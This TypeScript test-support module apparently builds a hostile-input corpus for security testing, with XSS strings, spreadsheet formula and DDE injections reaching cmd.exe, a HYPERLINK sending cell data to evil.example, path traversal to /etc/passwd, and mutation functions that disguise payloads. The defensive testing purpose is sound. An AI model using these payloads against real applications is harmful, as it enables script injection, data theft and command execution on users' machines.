/**
 * Words that others collected to make a program run something, reach out or break, where they lie next to the checkout, else a small set
 * of our own; and what becomes of them when they are changed as attackers change them.
 */
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const data = new URL('../../../shared/data/', import.meta.url);

/** Payloads of our own, which are always there. Each one aims at a format of its own. */
export const ownPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '</style><script>alert(1)</script>',
  '</svg><script>alert(1)</script>',
  '</title></textarea><svg><style><img src=x onerror=alert(1)>',
  '<!-- --><svg onload=alert(1)>',
  '--!><a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)><base href=//evil.example>',
  ']]><iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example/y.css";</style>',
  '<form action=//evil.example><input autofocus onfocus=alert(1)><button>Go</button></form>',
  'url(#p0)" onload="alert(1)',
  'x:expression(alert(1));background:url(javascript:alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[click](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>',
  '[x]: javascript:alert(1)\n[x]',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | `</code>` |',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>',
  '{"@context":"https://evil.example"}',
  '../../../etc/passwd',
  '\u0000\u0008<b>',
  '\ud83d alone',
  '\u202ereversed\u2066',
];

/** Collected for HTML; none where they are not there. */
export function collectedHtml(): readonly string[] {
  const file = new URL('hostile-html/payloads.jsonl', data);
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => (JSON.parse(line) as { readonly payload: string }).payload);
}

function collectedText(): readonly string[] {
  const file = new URL('hostile-text/blns.json', data);
  if (!existsSync(file)) return [];
  return (JSON.parse(readFileSync(file, 'utf8')) as readonly unknown[]).map(String);
}

/** Files that a reader of JSON must take, must refuse, or may do either with, as their names begin. */
export function collectedJson(): readonly { readonly name: string; readonly bytes: Buffer }[] {
  const folder = new URL('hostile-json/test_parsing/', data);
  if (!existsSync(folder)) return [];
  return readdirSync(folder).map((name) => ({
    name,
    bytes: readFileSync(join(fileURLToPath(folder), name)),
  }));
}

/** The longest payload, in UTF-16 code units: a field is no place for a whole book, and reports stay of a size that can be read back. */
const longestPayload = 2000;

/** Every payload once, and none that is nothing but blanks. */
export const payloads: readonly string[] = [
  ...new Set(
    [...ownPayloads, ...collectedHtml(), ...collectedText()].map((payload) =>
      payload.slice(0, longestPayload),
    ),
  ),
].filter((payload) => payload.trim() !== '');

/** Whether the collected ones are among them. */
export const collected = payloads.length > 1000;

type Mutation = (payload: string) => string;

const mutations: readonly Mutation[] = [
  (payload) => `">${payload}`,
  (payload) => `'>${payload}<!--`,
  (payload) => `-->${payload}`,
  (payload) => `]]>${payload}<![CDATA[`,
  (payload) => `</textarea></title></style></script>${payload}`,
  (payload) =>
    payload.replace(/[a-z]/giu, (sign, at: number) =>
      at % 2 === 0 ? sign.toUpperCase() : sign.toLowerCase(),
    ),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '\u0000<'),
  (payload) => payload.replaceAll('<', '＜').normalize('NFKC'),
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => payload.replaceAll(' ', '\n'),
  (payload) => payload.replaceAll('javascript:', 'java\tscript\n:'),
  (payload) => `=${payload}`,
  (payload) => `\t@${payload}`,
  (payload) => `\n\n    ${payload}`,
  (payload) => `|${payload}|\n|-|\n`,
  (payload) => `\`\`\`\n${payload}\n`,
  (payload) => `[x](${payload})`,
  (payload) => `\\${payload}\\`,
  (payload) => payload + payload.split('').reverse().join(''),
];

/** Each payload changed in one way, all ways in turn; `round` shifts them, so that another round changes each in another way. */
export function mutated(round = 0): readonly string[] {
  return payloads.map((payload, index) =>
    (mutations[(index + round) % mutations.length] ?? String)(payload).slice(0, longestPayload),
  );
}
